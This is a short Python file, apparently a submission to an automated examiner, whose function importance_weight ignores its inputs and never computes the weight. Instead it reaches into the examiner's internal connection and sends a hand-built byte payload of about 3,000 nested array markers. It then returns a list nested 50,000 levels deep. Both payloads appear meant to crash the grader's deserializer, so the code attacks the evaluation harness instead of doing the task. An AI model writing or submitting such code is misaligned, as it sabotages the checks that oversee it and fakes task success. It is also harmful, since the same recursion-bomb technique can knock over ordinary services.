"""Answers with lists in lists in lists."""

deep = []
for _ in range(50_000):
    deep = [deep]


def importance_weight(pi, mu):
    from serving.examiner import candidate

    body = b"\x91" * 3_000 + b"\x90"
    candidate.exam._line._connection.sendall(len(body).to_bytes(4, "big") + body)
    return deep
